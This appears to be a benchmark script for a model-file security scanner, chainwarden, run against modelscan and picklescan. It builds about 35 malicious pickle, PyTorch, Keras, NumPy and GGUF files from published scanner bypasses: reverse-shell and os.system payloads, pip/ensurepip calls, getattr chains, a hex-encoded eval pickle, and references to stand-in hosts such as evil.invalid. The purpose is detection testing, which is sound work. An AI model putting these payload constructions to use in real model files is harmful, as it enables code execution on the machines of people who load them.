"""Model-file scanners side by side: chainwarden, modelscan and picklescan on the same files.

Malicious files are built in code (the published scanner bypasses, see
tests/mlmodels/test_bypasses.py) into a fresh directory under bench/_out/; nothing is ever
loaded. Benign files are real: model files shipped inside wheels downloaded from PyPI
(facenet-pytorch, silero-vad, joblib, numpy) and files written by numpy / joblib /
scikit-learn / safetensors themselves in the comparison venv.

modelscan and picklescan live in their own venv, never a chainwarden dependency:

    python3 -m venv bench/_data/venv-models
    bench/_data/venv-models/bin/pip install modelscan==0.8.8 picklescan==1.0.5 py7zr \
        numpy joblib scikit-learn safetensors

Run: .venv/bin/python bench/models.py [--write-docs]
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import subprocess
import sys
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

from _common import DATA, OUT, ROOT, command_line, machine, now, table, write_section

sys.path.insert(0, str(ROOT / "tests"))

from chainwarden.analyzers.base import ArtifactView
from chainwarden.analyzers.mlmodels.analyzer import ModelAnalyzer
from chainwarden.analyzers.mlmodels.scan import scan_model_file
from chainwarden.models import ArtifactKind, ArtifactRef, Member, Severity
from support import modelcraft as mc

VENV = DATA / "venv-models"
WHEELS = DATA / "model-wheels"
PINS = ("facenet-pytorch==2.6.0", "silero-vad==6.2.3", "joblib==1.6.0", "numpy==2.4.6")
SUFFIXES = (".pt", ".pth", ".jit", ".pkl", ".pickle", ".npy", ".npz", ".joblib", ".safetensors", ".gz", ".gzip",
            ".bz2", ".xz", ".lzma")  # fmt: skip
PER_WHEEL = 10
TIMEOUT = 300

_MAKE_BENIGN = """
import sys, numpy as np, joblib
from safetensors.numpy import save_file
from sklearn.linear_model import LogisticRegression
out = sys.argv[1]
np.save(f"{out}/np_float.npy", np.arange(12.0).reshape(3, 4))
np.save(f"{out}/np_object.npy", np.array(["a", 1, None], dtype=object), allow_pickle=True)
np.savez_compressed(f"{out}/np_arrays.npz", a=np.ones(3), b=np.zeros((2, 2)))
joblib.dump({"w": np.arange(6.0).reshape(2, 3), "meta": {"lr": 0.1}}, f"{out}/weights.joblib")
joblib.dump({"w": np.arange(6.0)}, f"{out}/weights_compressed.joblib", compress=3)
joblib.dump(LogisticRegression().fit([[0], [1], [2], [3]], [0, 0, 1, 1]), f"{out}/sklearn_logreg.joblib")
save_file({"w": np.ones((2, 2), dtype=np.float32)}, f"{out}/weights.safetensors")
"""
_MAKE_7Z = """
import sys, py7zr
with py7zr.SevenZipFile(sys.argv[1], "w") as archive:
    archive.writestr(open(sys.argv[2], "rb").read(), "archive/data.pkl")
"""


@dataclass(frozen=True, slots=True)
class Sample:
    path: Path
    malicious: bool
    origin: str


def _malicious_files(folder: Path) -> list[Sample]:
    """The bypasses, built in code. Payloads name 127.0.0.1 only and are never loaded."""
    shell = mc.string0(mc.REVERSE_SHELL)
    cases: dict[str, tuple[bytes, str]] = {
        "reverse_shell_p2.pkl": (mc.call("os", "system", shell), "`__reduce__` reverse shell"),
        "reverse_shell_p4.pkl": (mc.stack_call("subprocess", "Popen", mc.s("sh")), "STACK_GLOBAL protocol 4"),
        "pytorch_model.bin": (mc.torch_zip(mc.call("os", "system", shell)), "torch zip, payload in data.pkl"),
        "crc_bypass.pt": (mc.torch_zip(mc.call("os", "system", shell), crc_ok=False), "CVE-2025-10156"),
        "proto0.bin": (mc.global_("os", "system") + mc.MARK + shell + mc.TUPLE + mc.REDUCE + mc.STOP, "CVE-2025-10155"),
        "config.p": (mc.call("os", "system", shell), "CVE-2025-1889 odd suffix"),
        "asyncio_sub.pkl": (mc.call("asyncio.unix_events", "_UnixSubprocessTransport", mc.NONE), "CVE-2025-10157"),
        "pip_main.pkl": (mc.call("pip", "main", mc.EMPTY_LIST), "CVE-2025-1716"),
        "ensurepip.pkl": (mc.stack_call("ensurepip", "_run_pip", mc.EMPTY_LIST), "GHSA-xp4f-hrf8-rxw7"),
        "resolve_name.pkl": (
            mc.proto(4) + mc.s("pkgutil") + mc.s("resolve_name") + mc.STACK_GLOBAL + mc.s("os:system") + mc.TUPLE1
            + mc.REDUCE + mc.s("id") + mc.TUPLE1 + mc.REDUCE + mc.STOP,
            "GHSA-vvpj-8cmc-gx39",
        ),
        "uuid_cmd.pkl": (mc.call("uuid", "_get_command_stdout", mc.string0("id")), "CVE-2026-56315"),
        "imaplib.pkl": (mc.call("imaplib", "IMAP4_stream", mc.string0("id")), "CVE-2026-56315"),
        "filehandler.pkl": (mc.call("logging", "FileHandler", mc.string0("/tmp/x")), "CVE-2026-56304"),
        "memo_confusion.pkl": (
            mc.proto(4) + mc.s("os") + mc.binput(0) + mc.s("system") + mc.binput(1) + mc.s("torch._utils")
            + mc.MEMOIZE + mc.s("_rebuild_tensor_v2") + mc.MEMOIZE + mc.POP * 4 + mc.binget(0) + mc.binget(1)
            + mc.STACK_GLOBAL + mc.s("id") + mc.TUPLE1 + mc.REDUCE + mc.STOP,
            "picklescan #14",
        ),
        "broken_after_payload.pkl": (mc.call("os", "system", shell)[:-1] + b"\xff\xfe", "GHSA-9gvj-pp9x-gcfr"),
        "importlib.pkl": (mc.call("importlib", "import_module", mc.string0("os")), "picklescan PR #74"),
        "modelscan_330.pkl": (
            bytes.fromhex(
                "80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f"
                "93949468017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72745f5f28226f7322"
                "292e73797374656d28226964222985522e"
            ),
            "modelscan #330",
        ),
        "missing_memo.pkl": (
            mc.call("os", "system", shell)[:-1] + mc.binget(9) + mc.binget(10) + mc.STACK_GLOBAL + mc.STOP,
            "modelscan PR #348",
        ),
        "collect_env.pkl": (mc.call("torch.utils.collect_env", "run", mc.string0("id")), "modelscan #338"),
        "pty.pkl": (mc.call("pty", "spawn", mc.string0("/bin/sh")), "GHSA-r7v6-mfhq-g3m2"),
        "pop_hidden.pkl": (
            mc.proto(2) + mc.global_("subprocess", "Popen") + mc.MARK + shell + mc.TUPLE + mc.REDUCE + mc.POP
            + mc.EMPTY_DICT + mc.STOP,
            "fickling: call result POPped",
        ),
        "partial.pkl": (
            mc.proto(2) + mc.global_("functools", "partial") + mc.global_("os", "system") + shell + mc.TUPLE2
            + mc.REDUCE + mc.EMPTY_TUPLE + mc.REDUCE + mc.STOP,
            "fickling PR #210",
        ),
        "torch_hub.pkl": (mc.stack_call("torch", "hub.load", mc.s("evil.invalid/repo"), mc.s("m")), "dotted name"),
        "getattr_chain.pkl": (
            mc.proto(2) + mc.global_("builtins", "getattr") + mc.global_("builtins", "__import__")
            + mc.string0("os") + mc.TUPLE1 + mc.REDUCE + mc.string0("system") + mc.TUPLE2 + mc.REDUCE + shell
            + mc.TUPLE1 + mc.REDUCE + mc.STOP,
            "builtins.getattr chain",
        ),
        "runpy.pkl": (mc.call("runpy", "run_path", mc.string0("/tmp/x.py")), "runpy"),
        "unknown_global.pkl": (mc.call("evilpkg.loader", "fetch", mc.string0("http://evil.invalid/x")), "no list"),
        "appended.pkl": (mc.torch_state_dict_pickle() + mc.call("os", "system", shell), "second pickle appended"),
        "legacy_payload.pt": (mc.torch_legacy(mc.call("os", "system", shell)), "legacy torch, payload"),
        "nullifai_7z.pt": (mc.SEVEN_ZIP + b"\x00" * 64, "7z header (nullifAI)"),
        "keras_lambda.keras": (mc.keras_zip([mc.dense_layer(), mc.lambda_layer()]), "Keras Lambda layer"),
        "npy_object_payload.npy": (
            mc.npy({"descr": "|O", "fortran_order": False, "shape": (1,)}, mc.call("os", "system", shell, protocol=3)),
            "np.load(allow_pickle=True)",
        ),
        "gguf_ssti.gguf": (
            mc.gguf({"tokenizer.chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
            "CVE-2024-34359",
        ),
    }  # fmt: skip
    samples = []
    for name, (data, origin) in cases.items():
        path = folder / name
        path.write_bytes(data)
        samples.append(Sample(path, malicious=True, origin=origin))
    # A real 7z archive around a malicious data.pkl, as nullifAI shipped.
    inner = folder / "_inner_data.pkl"
    inner.write_bytes(mc.call("os", "system", shell))
    real_7z = folder / "nullifai_real_7z.pt"
    subprocess.run([str(VENV / "bin/python"), "-c", _MAKE_7Z, str(real_7z), str(inner)], check=True, timeout=TIMEOUT)
    inner.unlink()
    samples.append(Sample(real_7z, malicious=True, origin="7z archive (nullifAI)"))
    return samples


def _download_wheels() -> list[Path]:
    WHEELS.mkdir(parents=True, exist_ok=True)
    pip = [str(VENV / "bin/pip"), "download", "-q", "--no-deps", "--only-binary=:all:", "-d", str(WHEELS)]
    subprocess.run([*pip, *PINS], check=True, timeout=TIMEOUT, capture_output=True)
    names = [p.split("==")[0].replace("-", "_") for p in PINS]
    return sorted(w for w in WHEELS.glob("*.whl") if any(w.name.lower().startswith(n) for n in names))


def _benign_files(folder: Path) -> list[Sample]:
    samples: list[Sample] = []
    for wheel in _download_wheels():
        with zipfile.ZipFile(wheel) as zf:
            members = [i for i in zf.infolist() if i.filename.endswith(SUFFIXES) and not i.is_dir()]
            step = max(1, len(members) // PER_WHEEL)
            for info in members[::step][:PER_WHEEL]:
                target = folder / f"{wheel.name.split('-')[0]}__{info.filename.replace('/', '__')}"
                target.write_bytes(zf.read(info))
                samples.append(Sample(target, malicious=False, origin=f"{wheel.name.split('-')[0]} wheel"))
    made = folder / "made"
    made.mkdir()
    subprocess.run([str(VENV / "bin/python"), "-c", _MAKE_BENIGN, str(made)], check=True, timeout=TIMEOUT)
    samples.extend(Sample(p, malicious=False, origin="written by the library") for p in sorted(made.iterdir()))
    return samples


def _chainwarden(path: Path) -> str:
    analyzer = ModelAnalyzer()
    facts = scan_model_file(path)
    member = Member(path.name, path.stat().st_size)
    view = ArtifactView(ArtifactRef(ArtifactKind.MODEL, str(path), path.name), ArtifactKind.MODEL, None, (member,))
    findings = [f for f in analyzer.judge(view, {path.name: facts}) if f.severity > Severity.INFO]
    blocking = sorted({f.rule_id for f in findings if f.severity >= Severity.HIGH})
    if blocking:
        return "blocked " + ",".join(blocking)
    if findings:
        return "warn " + ",".join(sorted({f.rule_id for f in findings}))
    return "clean"


def _modelscan(path: Path, scratch: Path) -> str:
    report = scratch / "modelscan.json"
    report.unlink(missing_ok=True)
    cmd = [str(VENV / "bin/modelscan"), "-p", str(path), "-r", "json", "-o", str(report)]
    subprocess.run(cmd, capture_output=True, timeout=TIMEOUT, check=False, cwd=scratch)
    try:
        data = json.loads(report.read_text())
    except (OSError, ValueError):
        return "error"
    issues = data.get("issues", [])
    if issues:
        return "flagged " + max(
            (i.get("severity", "?") for i in issues), key=["LOW", "MEDIUM", "HIGH", "CRITICAL"].index
        )
    if data.get("errors"):
        return "error"
    if not data.get("summary", {}).get("scanned", {}).get("total_scanned"):
        return "skipped"
    return "clean"


def _picklescan(path: Path) -> str:
    out = subprocess.run(
        [str(VENV / "bin/picklescan"), "-p", str(path)], capture_output=True, text=True, timeout=TIMEOUT, check=False
    )
    text = out.stdout + out.stderr
    if out.returncode == 1:
        return "flagged"
    if out.returncode != 0:
        return "error"
    if "Scanned files: 0" in text:
        return "skipped"
    suspicious = next(
        (ln.split(":")[1].strip() for ln in text.splitlines() if ln.startswith("Suspicious globals")), "0"
    )
    return "clean" if suspicious == "0" else f"clean ({suspicious} suspicious)"


def _detected(verdict: str) -> bool:
    return verdict.startswith(("blocked", "flagged"))


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--write-docs", action="store_true", help="write the table into docs/benchmarks.md")
    args = parser.parse_args()
    if not (VENV / "bin/modelscan").exists() or not (VENV / "bin/picklescan").exists():
        print(f"modelscan / picklescan not installed in {VENV}; see this script's docstring", file=sys.stderr)
        return 2
    work = OUT / "models"
    shutil.rmtree(work, ignore_errors=True)
    (work / "malicious").mkdir(parents=True)
    (work / "benign").mkdir()
    samples = _malicious_files(work / "malicious") + _benign_files(work / "benign")
    rows: list[list[str]] = []
    seconds = {"chainwarden": 0.0, "modelscan": 0.0, "picklescan": 0.0}
    hits = {"chainwarden": [0, 0], "modelscan": [0, 0], "picklescan": [0, 0]}  # [malicious caught, benign passed]
    for sample in samples:
        verdicts = {}
        for tool, run in (
            ("chainwarden", _chainwarden),
            ("modelscan", lambda p: _modelscan(p, work)),
            ("picklescan", _picklescan),
        ):
            start = time.perf_counter()
            verdicts[tool] = run(sample.path)
            seconds[tool] += time.perf_counter() - start
            good = _detected(verdicts[tool]) if sample.malicious else not _detected(verdicts[tool])
            hits[tool][0 if sample.malicious else 1] += good
        rows.append(
            [
                f"`{sample.path.name}`",
                "malicious" if sample.malicious else "benign",
                sample.origin,
                verdicts["chainwarden"],
                verdicts["modelscan"],
                verdicts["picklescan"],
            ]
        )
    n_bad = sum(s.malicious for s in samples)
    n_good = len(samples) - n_bad
    summary = table(
        ["tool", "malicious flagged", "benign not flagged", "seconds (all files)"],
        [
            [tool, f"{hits[tool][0]}/{n_bad}", f"{hits[tool][1]}/{n_good}", f"{seconds[tool]:.1f}"]
            for tool in ("chainwarden", "modelscan", "picklescan")
        ],
    )
    body = "\n".join(
        [
            "## Model files: chainwarden vs modelscan vs picklescan",
            "",
            (
                f"Command: `{command_line()}` — {now()} — {machine()} (load average {os.getloadavg()[0]:.1f} at the"
                " end: other benchmarks shared the machine, so the seconds are indicative)."
            ),
            "modelscan 0.8.8 and picklescan 1.0.5 (with py7zr) from `bench/_data/venv-models`, each run per file",
            "with its default settings. chainwarden: *blocked* = a finding at or above high (the default policy);",
            "modelscan: *flagged* = any issue; picklescan: *flagged* = exit code 1 (dangerous global); *error* =",
            "the tool failed on the file, *skipped* = it did not recognise the file as something to scan. Seconds",
            "include each tool's process start-up (chainwarden runs in-process).",
            "",
            "The malicious set is the published bypasses of these very tools (plus the issue's own cases), so",
            "it measures coverage of known evasions, not recall on models found in the wild. *error* and",
            '*skipped* count as "not flagged" on the benign side, which flatters the other tools.',
            "",
            summary,
            "",
            "chainwarden's benign file above high, `sklearn_logreg.joblib`, imports",
            "`sklearn.linear_model._logistic.LogisticRegression`, a global outside the allowlist: fail closed by",
            "design (loading it runs scikit-learn code); accept such a file with a policy ignore.",
            "",
            table(["file", "kind", "origin", "chainwarden", "modelscan", "picklescan"], rows),
        ]
    )
    print(body)
    (OUT / "models-latest.md").write_text(body + "\n", encoding="utf-8")
    if args.write_docs:
        write_section("models", body)
    return 0


if __name__ == "__main__":
    sys.exit(main())
